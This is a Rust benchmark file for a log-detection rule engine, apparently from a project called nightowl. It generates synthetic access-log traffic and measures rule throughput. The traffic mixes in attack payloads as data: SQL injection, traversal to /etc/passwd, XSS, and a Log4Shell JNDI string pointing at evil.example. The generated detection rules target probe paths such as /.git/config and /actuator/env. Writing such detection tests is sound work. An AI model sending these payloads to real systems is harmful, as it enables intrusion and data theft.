//! Rule engine throughput: lines per second on one core, with the default
//! pack alone and parameterized to over 100 active rules, over generated
//! access-log traffic (97% ordinary, 3% attacks of the kinds the pack
//! detects).
//!
//! `pack` is `rules/*.yaml`; `pack_no_slo` the same without its burn_rate
//! (error-budget) rules, as the pack was before them; `builtin` what the
//! collector embeds and runs by default (the pack and `rules/sigma/`), also
//! on three virtual hosts (`builtin_vhosts`, where the per-host rules run).
//!
//! Two 100-rule sets, both built on `pack_no_slo` so they compare across
//! builds:
//! - `pack_x5`: the pack five times over; each copy gets its own client
//!   allowlist (`not cidr`) and its own thresholds, so copies differ in
//!   tests and state as a real pack of per-team variants would, while
//!   sharing the regexes that are in fact the same. Its every-line rules
//!   (5xx ratio, bytes sum) count five times, so it is state-heavy.
//! - `mixed`: the pack, the Sigma pack and 70 generated rules of every kind
//!   (match, threshold, distinct, ratio, spike, new_value, sequence,
//!   flatline) over varied filters (path prefixes and literals, methods,
//!   status classes, user agents, byte sizes) and keys (client, host, path,
//!   user agent), on traffic from three virtual hosts. No two generated
//!   rules share their whole filter.
//!
//! `NIGHTOWL_RULES_CPU=1 cargo bench --bench rules` prints lines per second
//! of thread CPU time instead (best of 5 passes per set, and the firings of
//! each set): the machine's load barely moves it, unlike wall time.
//! `NIGHTOWL_RULES_SETS=mixed_unique` limits it to the named sets.

use std::hint::black_box;
use std::path::Path;

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use nightowl::detect::rule::{ExprSpec, OneOrMany};
use nightowl::detect::{load_dir, Engine, Firing, RuleSpec};
use nightowl::parse::{parse_line, Event, Format, ParseContext};

const LINES: usize = 100_000;
const COPIES: usize = 5;
/// Event time covered by the generated traffic (1000 lines/s), plus a
/// second.
const SPAN: i64 = (LINES as i64 / 1000 + 1) * 1_000_000_000;

/// xorshift: deterministic traffic without a dependency.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn pick<'a>(&mut self, v: &[&'a str]) -> &'a str {
        v[(self.next() % v.len() as u64) as usize]
    }
}

/// `unique`: every ordinary request gets its own query value, referer
/// and user-agent build, so no field value repeats (the worst case for
/// the engine's per-text memo of scan results).
fn traffic(vhosts: bool, unique: bool) -> Vec<String> {
    let mut r = Rng(0x9e37_79b9_7f4a_7c15);
    let paths = [
        "/",
        "/index.html",
        "/static/js/app.3f9a1c.js",
        "/static/css/site.css",
        "/api/v1/items?page=2&per_page=50",
        "/api/v1/cart",
        "/products/4711?ref=home",
        "/search?q=running+shoes&sort=price",
        "/login",
        "/account/orders",
        "/img/logo.png",
        "/favicon.ico",
        "/blog/2024/10/release-notes",
    ];
    let uas = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
        "curl/8.5.0",
    ];
    let attacks = [
        (
            "GET",
            "/item.php?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--",
            500,
            "Mozilla/5.0",
        ),
        (
            "GET",
            "/download?file=..%2f..%2f..%2fetc%2fpasswd",
            404,
            "Mozilla/5.0",
        ),
        (
            "GET",
            "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
            200,
            "Mozilla/5.0",
        ),
        ("GET", "/", 200, "sqlmap/1.7.2#stable (https://sqlmap.org)"),
        ("GET", "/.env", 404, "Mozilla/5.0 zgrab/0.x"),
        ("POST", "/login", 401, "python-requests/2.31"),
        ("GET", "/wp-admin/", 404, "Mozilla/5.0"),
        ("GET", "/", 200, "${jndi:ldap://evil.example/a}"),
    ];
    let mut out = Vec::with_capacity(LINES);
    for i in 0..LINES {
        let sec = i / 1000;
        let ts = format!(
            "10/Oct/2024:{:02}:{:02}:{:02} +0000",
            12 + sec / 3600,
            sec / 60 % 60,
            sec % 60
        );
        let ip = format!("198.51.{}.{}", r.next() % 20, r.next() % 250 + 1);
        let vhost = if vhosts {
            ["shop.example ", "api.example ", "blog.example "][(r.next() % 3) as usize]
        } else {
            ""
        };
        let line = if vhosts && r.next() % 100 < 4 {
            // Logins and API writes: POSTs with their own status mix.
            let (p, s) = [
                ("/login", 302),
                ("/login", 401),
                ("/api/v1/cart", 201),
                ("/checkout", 200),
            ][(r.next() % 4) as usize];
            format!(
                "{vhost}{ip} - u{} [{ts}] \"POST {p} HTTP/1.1\" {s} 64 \"https://shop.example/\" \"{}\"",
                r.next() % 500,
                r.pick(&uas)
            )
        } else if r.next() % 100 < 3 {
            let (m, p, s, ua) = attacks[(r.next() % attacks.len() as u64) as usize];
            format!("{vhost}{ip} - - [{ts}] \"{m} {p} HTTP/1.1\" {s} 153 \"-\" \"{ua}\"")
        } else {
            let p = r.pick(&paths);
            let status = match r.next() % 100 {
                0..=1 => 404,
                2 => 500,
                3..=5 => 304,
                _ => 200,
            };
            if unique {
                let n = r.next();
                let sep = if p.contains('?') { '&' } else { '?' };
                format!(
                    "{vhost}{ip} - - [{ts}] \"GET {p}{sep}v={} HTTP/1.1\" {status} {} \"https://shop.example/?utm_id={}\" \"{} Build/{}\"",
                    n % 1_000_000_007,
                    r.next() % 50_000,
                    n % 999_983,
                    r.pick(&uas),
                    n % 1_000_003
                )
            } else {
                format!(
                    "{vhost}{ip} - - [{ts}] \"GET {p} HTTP/1.1\" {status} {} \"https://shop.example/\" \"{}\"",
                    r.next() % 50_000,
                    r.pick(&uas)
                )
            }
        };
        out.push(line);
    }
    out
}

/// The rules of the files directly in `rules/SUB` (the loader also reads
/// sub-directories: `rules/` alone would include `sigma/`).
fn load(sub: &str) -> Vec<RuleSpec> {
    load_files(&Path::new("rules").join(sub), "")
}

/// The rules of the files directly in `DIR` (under the repository) whose
/// name starts with `prefix`.
fn load_files(dir: &Path, prefix: &str) -> Vec<RuleSpec> {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join(dir);
    match load_dir(&dir) {
        Ok(rules) => rules
            .into_iter()
            .filter(|r| r.file.parent() == Some(dir.as_path()))
            .filter(|r| {
                r.file
                    .file_name()
                    .and_then(|n| n.to_str())
                    .is_some_and(|n| n.starts_with(prefix))
            })
            .map(|r| r.spec)
            .collect(),
        Err(e) => panic!("{}: {e}", dir.display()),
    }
}

/// `rules/*.yaml`: the native part of the pack.
fn pack() -> Vec<RuleSpec> {
    load("")
}

/// The pack as it was before its error-budget (burn_rate) and log-pattern
/// rules, so sets built on it (`pack_x5`, `mixed`) compare across builds.
fn pack_without_slo() -> Vec<RuleSpec> {
    use nightowl::detect::rule::DetectKind;
    pack()
        .into_iter()
        .filter(|r| {
            !matches!(
                r.detect.kind,
                DetectKind::BurnRate | DetectKind::NewPattern | DetectKind::PatternSpike
            )
        })
        .collect()
}

/// The pack, the Sigma pack and generated rules up to 100: see the module
/// doc. Generated from YAML text through the real loader.
pub fn mixed() -> Vec<RuleSpec> {
    let mut out = pack_without_slo();
    // The ten webserver rules the Sigma pack had when this set was made
    // (five of them, duplicates of native rules, are examples now).
    out.extend(load_files(Path::new("rules/sigma"), "web_"));
    out.extend(load_files(Path::new("examples/sigma"), "web_"));
    let prefixes = [
        "/api/v1/items",
        "/api/v1/cart",
        "/products/",
        "/search",
        "/login",
        "/account/",
        "/static/",
        "/img/",
        "/blog/",
        "/checkout",
        "/admin",
        "/graphql",
        "/api/v2/orders",
        "/internal/",
    ];
    let literals = [
        "/cgi-bin/luci",
        "/boaform/admin",
        "/hnap1",
        "/vendor/phpunit/",
        "/solr/admin/cores",
        "/actuator/env",
        "/.git/config",
        "/server-status",
        "/_ignition/execute-solution",
        "/console/login/loginform.jsp",
        "/remote/fgt_lang",
        "/jenkins/script",
        "/owa/auth/x.js",
        "/manager/html",
    ];
    let methods = ["POST", "PUT", "DELETE", "GET"];
    let mut yaml = String::new();
    let mut n = 0usize;
    let mut rule = |yaml: &mut String, body: String| {
        yaml.push_str(&format!(
            "---\nid: gen-{n}\ntitle: generated {n}\nseverity: warning\n{body}"
        ));
        n += 1;
    };
    for (i, lit) in literals.iter().enumerate() {
        // Signatures: a literal, with a method, status or decode twist.
        let m = match i % 4 {
            0 => format!("match: {{field: path, contains: '{lit}'}}"),
            1 => format!(
                "match: {{all: [{{field: path, decode: true, contains: '{lit}'}}, {{field: status, lt: 500}}]}}"
            ),
            2 => format!("match: {{field: uri_stem, startswith: '{lit}'}}"),
            _ => format!(
                "match: {{all: [{{field: method, equals: [GET, POST]}}, {{field: path, regex: '{}(\\?|$)'}}]}}",
                regex_escape(lit)
            ),
        };
        rule(
            &mut yaml,
            format!("{m}\ndetect: {{kind: match, key: client_ip, window: 30m}}\n"),
        );
    }
    for (i, p) in prefixes.iter().take(12).enumerate() {
        let m = match i % 4 {
            0 => format!("{{all: [{{field: path, startswith: '{p}'}}, {{field: status, gte: 500, lt: 600}}]}}"),
            1 => format!("{{all: [{{field: path, startswith: '{p}'}}, {{field: status, gte: 400, lt: 500}}]}}"),
            2 => format!(
                "{{all: [{{field: path, startswith: '{p}'}}, {{field: method, equals: {}}}]}}",
                methods[i % methods.len()]
            ),
            _ => format!("{{all: [{{field: path, startswith: '{p}'}}, {{field: bytes, gt: 20000}}]}}"),
        };
        let d = if i % 4 == 3 {
            "{kind: threshold, key: client_ip, window: 10m, sum: bytes, min_sum: 5000000}"
                .to_string()
        } else {
            format!(
                "{{kind: threshold, key: client_ip, window: {}m, count: {}}}",
                1 + i % 5,
                5 + i
            )
        };
        rule(&mut yaml, format!("match: {m}\ndetect: {d}\n"));
    }
    for (i, p) in prefixes.iter().skip(2).take(10).enumerate() {
        let (m, d) = match i % 3 {
            0 => (
                format!("{{all: [{{field: path, startswith: '{p}'}}, {{field: status, equals: [403, 404]}}]}}"),
                "{kind: distinct, key: client_ip, field: path, window: 5m, count: 20}".to_string(),
            ),
            1 => (
                format!("{{field: path, startswith: '{p}'}}"),
                "{kind: distinct, key: client_ip, field: user_agent, window: 10m, count: 4}".to_string(),
            ),
            _ => (
                format!("{{all: [{{field: uri_stem, startswith: '{p}'}}, {{field: status, gte: 400}}]}}"),
                "{kind: distinct, key: uri_stem, field: client_ip, window: 5m, count: 50}".to_string(),
            ),
        };
        rule(&mut yaml, format!("match: {m}\ndetect: {d}\n"));
    }
    for (i, p) in prefixes.iter().take(8).enumerate() {
        let key = ["host", "uri_stem"][i % 2];
        let num = if i % 3 == 0 {
            "{field: status, gte: 400, lt: 500}"
        } else {
            "{field: status, gte: 500}"
        };
        rule(
            &mut yaml,
            format!(
                "match: {{field: path, startswith: '{p}'}}\ndetect: {{kind: ratio, key: {key}, window: 2m, numerator: {num}, ratio: 0.{}, min_volume: 50}}\n",
                2 + i % 5
            ),
        );
    }
    for (i, p) in prefixes.iter().skip(4).take(8).enumerate() {
        let key = ["host", "client_ip", "uri_stem", "user_agent"][i % 4];
        rule(
            &mut yaml,
            format!(
                "match: {{field: path, startswith: '{p}'}}\ndetect: {{kind: spike, key: {key}, window: 1m, z: {}, warmup: 10, count: 50}}\n",
                4 + i % 3
            ),
        );
    }
    for (i, p) in prefixes.iter().skip(6).take(8).enumerate() {
        let (m, key) = match i % 2 {
            0 => (
                format!("{{all: [{{field: path, startswith: '{p}'}}, {{field: status, gte: 200, lt: 400}}]}}"),
                "client_ip",
            ),
            _ => (format!("{{field: uri_stem, startswith: '{p}'}}"), "[user_agent, method]"),
        };
        rule(
            &mut yaml,
            format!("match: {m}\ndetect: {{kind: new_value, key: {key}, learning: 30s}}\n"),
        );
    }
    for (i, p) in prefixes.iter().skip(3).take(6).enumerate() {
        let first = [
            "{field: status, equals: [401, 403]}",
            "{field: status, equals: 404}",
        ][i % 2];
        rule(
            &mut yaml,
            format!(
                "match: {{field: path, startswith: '{p}'}}\ndetect: {{kind: sequence, key: client_ip, window: 10m, count: {}, first: {first}, then: {{all: [{{field: method, equals: POST}}, {{field: status, lt: 400}}]}}}}\n",
                3 + i
            ),
        );
    }
    for p in prefixes.iter().take(4) {
        rule(
            &mut yaml,
            format!(
                "match: {{field: path, startswith: '{p}'}}\ndetect: {{kind: flatline, key: host, after: 5m}}\n"
            ),
        );
    }
    let generated: Vec<RuleSpec> = serde_yaml::Deserializer::from_str(&yaml)
        .map(|d| match serde::Deserialize::deserialize(d) {
            Ok(r) => r,
            Err(e) => panic!("generated rule: {e}\n{yaml}"),
        })
        .collect();
    out.extend(generated);
    assert_eq!(out.len(), 100, "mixed set");
    out
}

fn regex_escape(s: &str) -> String {
    s.chars()
        .flat_map(|c| {
            let esc = matches!(
                c,
                '.' | '?' | '*' | '+' | '(' | ')' | '[' | ']' | '{' | '}' | '|' | '^' | '$'
            );
            esc.then_some('\\').into_iter().chain(std::iter::once(c))
        })
        .collect()
}

fn parameterized(base: &[RuleSpec]) -> Vec<RuleSpec> {
    let mut out = Vec::new();
    for k in 0..COPIES {
        for r in base {
            let mut r = r.clone();
            r.id = format!("{}-v{k}", r.id);
            let allow = ExprSpec {
                field: Some(OneOrMany::One("client_ip".into())),
                cidr: Some(OneOrMany::One(format!("10.{k}.0.0/16"))),
                ..Default::default()
            };
            let not_allowed = ExprSpec {
                not: Some(Box::new(allow)),
                ..Default::default()
            };
            r.matcher = Some(match r.matcher.take() {
                Some(m) => ExprSpec {
                    all: Some(vec![m, not_allowed]),
                    ..Default::default()
                },
                None => not_allowed,
            });
            if let Some(c) = r.detect.count.as_mut() {
                *c += k as u64;
            }
            out.push(r);
        }
    }
    out
}

fn parsed<'a>(lines: &'a [String], ctx: &ParseContext) -> Vec<Event<'a>> {
    lines
        .iter()
        .map(|l| match parse_line(l.as_bytes(), Format::Combined, ctx) {
            Ok(e) => e,
            Err(e) => panic!("generated line does not parse: {e}: {l}"),
        })
        .collect()
}

/// One pass of the traffic through the engine, `shift` later in event
/// time than the previous one (replaying at the same times would make every
/// line "late" and skipped). Returns the firings.
fn pass(
    engine: &mut Engine,
    events: &[Event<'_>],
    lines: &[String],
    shift: i64,
    out: &mut Vec<Firing>,
) {
    for (ev, l) in events.iter().zip(lines) {
        let ts = ev.timestamp.unwrap_or(0) + shift;
        engine.evaluate(ev, l, ts, "default", out);
    }
    engine.tick(shift + SPAN, out);
}

fn thread_cpu_nanos() -> i64 {
    let mut t = libc::timespec {
        tv_sec: 0,
        tv_nsec: 0,
    };
    // SAFETY: a valid out-pointer to a timespec on the stack.
    unsafe { libc::clock_gettime(libc::CLOCK_THREAD_CPUTIME_ID, &mut t) };
    t.tv_sec * 1_000_000_000 + t.tv_nsec
}

/// Lines per second of thread CPU time, best of 5 passes, and the firings
/// of all passes (to compare builds: the same traffic must fire the same).
type Set<'a> = (&'a str, &'a [RuleSpec], &'a [Event<'a>], &'a [String]);

fn engine(name: &str, rules: &[RuleSpec]) -> Engine {
    let mut e = Engine::new(rules).unwrap_or_else(|(id, e)| panic!("{id}: {}", e.message));
    e.set_plain_evaluation(name.ends_with("_plain"));
    e
}

fn cpu_report(sets: &[Set<'_>]) {
    // `NIGHTOWL_RULES_SETS=mixed,pack_x5`: only those (to profile one).
    let only = std::env::var("NIGHTOWL_RULES_SETS").ok();
    for (name, rules, events, lines) in sets {
        if only
            .as_deref()
            .is_some_and(|o| !o.split(',').any(|n| n == *name))
        {
            continue;
        }
        let mut engine = engine(name, rules);
        let mut out = Vec::new();
        let mut best = f64::MAX;
        let mut firings = 0;
        let mut digest = 0u64;
        for k in 0..5 {
            let t0 = thread_cpu_nanos();
            pass(&mut engine, events, lines, k * SPAN, &mut out);
            let dt = (thread_cpu_nanos() - t0) as f64 / 1e9;
            best = best.min(dt);
            firings += out.len();
            for f in out.drain(..) {
                digest = digest.rotate_left(5).wrapping_add(
                    f.count ^ f.first_ts as u64 ^ f.rule_id.len() as u64 ^ f.key.len() as u64,
                );
            }
        }
        println!(
            "{name}: {} rules, {:.0} lines per CPU-second (best of 5), {firings} firings, digest {digest:016x}",
            engine.rule_count(),
            lines.len() as f64 / best
        );
    }
}

fn bench(c: &mut Criterion) {
    let lines = traffic(false, false);
    let vlines = traffic(true, false);
    let ulines = traffic(true, true);
    let ctx = ParseContext {
        now_nanos: 1_730_000_000_000_000_000,
    };
    let events = parsed(&lines, &ctx);
    let vevents = parsed(&vlines, &ctx);
    let uevents = parsed(&ulines, &ctx);
    let base = pack();
    let old_base = pack_without_slo();
    let builtin: Vec<RuleSpec> = match nightowl::detect::builtin::load_builtin() {
        Ok(rules) => rules.into_iter().map(|r| r.spec).collect(),
        Err(e) => panic!("the embedded pack: {e}"),
    };
    let one: Vec<RuleSpec> = base[..1].to_vec();
    let many = parameterized(&old_base);
    assert!(many.len() >= 100, "{} rules", many.len());
    let mixed = mixed();
    let sets: [Set<'_>; 9] = [
        ("one", &one, &events, &lines),
        ("pack", &base, &events, &lines),
        // The pack without its burn_rate rules: the 20 rules of before.
        ("pack_no_slo", &old_base, &events, &lines),
        // What the collector runs by default: the pack and the Sigma pack.
        ("builtin", &builtin, &events, &lines),
        ("builtin_vhosts", &builtin, &vevents, &vlines),
        ("pack_x5", &many, &events, &lines),
        ("mixed", &mixed, &vevents, &vlines),
        ("mixed_unique", &mixed, &uevents, &ulines),
        // The plain path: every filter in full, no memo (same firings).
        ("mixed_plain", &mixed, &vevents, &vlines),
    ];
    if std::env::var_os("NIGHTOWL_RULES_CPU").is_some() {
        cpu_report(&sets);
        return;
    }

    let mut g = c.benchmark_group("rules");
    g.throughput(Throughput::Elements(LINES as u64));
    for (name, rules, events, lines) in sets {
        let mut engine = engine(name, rules);
        let mut out = Vec::new();
        let mut shift = 0i64;
        g.bench_function(
            format!("evaluate_{name}_{}_rules", engine.rule_count()),
            |b| {
                b.iter(|| {
                    pass(&mut engine, events, lines, shift, &mut out);
                    shift += SPAN;
                    black_box(&out);
                    out.clear();
                })
            },
        );
    }
    let mut engine = Engine::new(&many).unwrap_or_else(|(id, e)| panic!("{id}: {}", e.message));
    let mut out = Vec::new();
    let mut shift = 0i64;
    g.bench_function(
        format!("parse_and_evaluate_{}_rules", engine.rule_count()),
        |b| {
            b.iter(|| {
                for l in &lines {
                    if let Ok(ev) = parse_line(l.as_bytes(), Format::Combined, &ctx) {
                        engine.evaluate(
                            &ev,
                            l,
                            ev.timestamp.unwrap_or(0) + shift,
                            "default",
                            &mut out,
                        );
                    }
                }
                shift += SPAN;
                black_box(&out);
                out.clear();
            })
        },
    );
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
